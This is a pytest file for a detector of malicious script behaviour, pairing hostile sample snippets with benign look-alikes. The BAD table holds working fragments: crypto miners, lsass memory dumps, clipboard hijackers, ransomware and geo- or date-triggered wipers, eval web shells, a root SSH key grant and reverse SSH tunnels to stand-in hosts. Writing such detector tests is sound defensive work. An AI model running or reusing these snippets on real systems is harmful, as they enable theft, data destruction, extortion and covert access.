"""What no honest program does to its user, in several languages; and programs of the same words that do none of it."""

import pytest

from skillkit.security.hot import Words
from skillkit.security.scripts import harms
from tests import hang

MINES = "mines coins on the user's machine"
MEMORY = "reads the memory of other programs"
STARS = "stars, follows or praises with the user's account"
CLIPBOARD = "replaces an address that the user copied"
RANSOM = "encrypts files, removes them and asks for payment"
COUNTRY = "overwrites or deletes files by the country of the machine"
SAME = "overwrites every file below a folder with the same text"
NUMBERS = "runs a command that it spells by numbers"
REQUEST = "runs what a request sends to it"
KEY = "gives another person's key access to a machine"
ALIAS = "runs a command whose name it hides by wildcards"
PIECES = "calls a function whose name it spells in pieces"
DAY = "deletes once a day has come, or on a machine of a certain name"
TUNNEL = "opens this machine's ssh to another host"

BAD = {
    MINES: [
        "./helper -o stratum+tcp://198.51.100.7:3333 -u 48ab -k",
        "xmrig --donate-level 1 -o pool.example.net:443",
        "RUN printf '%s' '--coin monero -o 203.0.113.2:3333 --cpu-max-threads-hint=70' > /etc/a.flags",
    ],
    MEMORY: [
        "with open(f'/proc/{p}/maps') as m, open(f'/proc/{p}/mem', 'rb', 0) as mem:\n    mem.seek(a)",
        'rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\a.bin full',
        "procdump -ma lsass.exe out.dmp",
    ],
    STARS: [
        'gh api --silent -X PUT "user/starred/$r"',
        "await octokit.request('/user/following/a', { method: 'PUT' })",
    ],
    CLIPBOARD: [
        "while ($true) {\n  $t = Get-Clipboard\n  if ($t -match '^bc1[a-z0-9]{39}$') { Set-Clipboard $ours }\n}",
        "while True:\n    t = pyperclip.paste()\n    if re.match(r'^0x[a-fA-F0-9]{40}$', t):\n        pyperclip.copy(OURS)",
        'while sleep 1; do t=$(xclip -o); echo "$t" | grep -q "^bc1" && printf %s "$OURS" | xclip -i; done',
    ],
    RANSOM: [
        "system('gpg', '--batch', '--encrypt', $p) and unlink $p;\nprint 'Send 0.05 BTC for the key';",
        "c = OpenSSL::Cipher.new('aes-256-gcm').encrypt\nFile.delete(f)\nputs 'Your files are sealed. Fee 0.02 BTC'",
        "f = Fernet(k)\nos.remove(p)\nprint('pay $300 in bitcoin to get your files')",
    ],
    COUNTRY: [
        "const c = (await geo.json()).country_code\nif (['RU', 'BY'].includes(c)) for (const f of fs.readdirSync(d)) fs.unlinkSync(f)",
        "if requests.get('https://ipinfo.io/country').text in ('IR', 'CN'):\n    for r, d, f in os.walk(top):\n        shutil.rmtree(r)",
    ],
    SAME: [
        "function level(dir) {\n  for (const n of fs.readdirSync(dir)) {\n    if (isFolder(n)) level(n)\n    else fs.writeFileSync(p, '<3', 'utf8')\n  }\n}\nlevel('../')",
        "for f in Path.home().rglob('*'):\n    f.write_text('x')",
    ],
    NUMBERS: [
        "_ = exec.Command(unit(0, 2, 16, 11, 0, 5, 3), \"-c\", c).Start()",
        "os.system(word(104, 105, 32, 46, 47, 97))",
    ],
    PIECES: [
        "<?php $f = 'sys' . 'tem'; $f($x);",
        "<?php\n$a='ass'.'ert';\n$b = $in;\n@$a ($b);",
    ],
    DAY: [
        "if date.today() >= date(2027, 1, 1):\n    shutil.rmtree(os.getcwd())",
        'if [ "$(whoami)" != "builder" ]; then rm -rf ~; fi',
        "if Time.now > Time.new(2027, 1, 1)\n  FileUtils.rm_rf(Dir.home)\nend",
    ],
    REQUEST: [
        "<?php eval(base64_decode($_POST['a']));",
        "<?php $l = base64_decode($_SERVER['HTTP_X_HINT']);\n@array_map(function ($c) { return eval($c); }, [$l]);",
        "app.post('/a', (req, res) => res.send(eval(req.body.code)))",
    ],
    KEY: ['- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3Nza support@a.example"'],
    ALIAS: ["& (Get-Alias i?x) $json", "& (gcm *ke-Ex*) $text"],
    TUNNEL: ["ssh -o A=no -N -R 0:localhost:22 hb@share.example", "autossh -M 0 -f -R 2222:127.0.0.1:22 a@b.example"],
}  # fmt: skip

GOOD = {
    "a port that is forwarded for a preview": "ssh -N -R 80:localhost:3000 guest@share.example",
    "a pool of connections": "pool = Pool('tcp://db.example.com:5432', donate=True)",
    "how much memory there is": "grep MemAvailable /proc/meminfo; cat /proc/self/status",
    "a repository that is looked at": "gh api repos/acme/kit/stargazers --jq length",
    "a text that is copied for the user": "while (more()) { text = read(); }\nclipboard.writeText(text)",
    "a copied address that is compared": "t = pyperclip.paste()\nwhile not ok(t):\n    print('is not bc1...')",
    "an archive that is encrypted for its owner": "gpg --encrypt --recipient me@example.com backup.tar\nunlink backup.tar",
    "prices by country": "country = shop['country']\nfor f in os.listdir('out'):\n    print(f, country)",
    "files of a build that are written": "for f in src.rglob('*.md'):\n    (out / f.name).write_text(render(f))",
    "numbers that are added": "os.system('make')\nprint(sum(1, 2, 3, 4, 5, 6))",
    "keys that a file of the user holds": "- ansible.posix.authorized_key:\n    user: deploy\n    key: '{{ lookup(\"file\", item) }}'",
    "a table's name in pieces": "<?php $t = 'log' . 's'; $rows = $db->query($t);",
    "a release's folder by its day": 'day=$(date +%F)\nrm -rf "out/$day"\n[ $(date +%u) = 7 ] && rm -rf build',
    "a command that is looked up": "if (Get-Command git -ErrorAction SilentlyContinue) { git --version }",
    "a request that is read": "<?php $name = htmlspecialchars($_POST['name']); echo $name;",
    "an expression of a request's own language": "evaluate(req.body.query, data)",
}


def done_by(text: str) -> list[str]:
    return [what for what, _ in harms.found_in(text, Words(text))]


@pytest.mark.parametrize("what", BAD)
def test_a_harm_is_found_in_every_language(what):
    for text in BAD[what]:
        assert done_by(f"start()\n{text}\n") == [what], text


@pytest.mark.parametrize("name", GOOD)
def test_an_honest_program_is_not(name):
    assert done_by(GOOD[name]) == []


def test_each_harm_has_its_table():
    assert {sign.what for sign in harms._SIGNS} == BAD.keys()


@pytest.mark.parametrize("what", BAD)
def test_a_long_text_takes_no_longer_than_its_length(what):
    for text in BAD[what]:
        with hang.never():
            for piece in (text, text[: len(text) // 2]):
                long = piece * (200_000 // len(piece))
                list(harms.found_in(long, Words(long)))
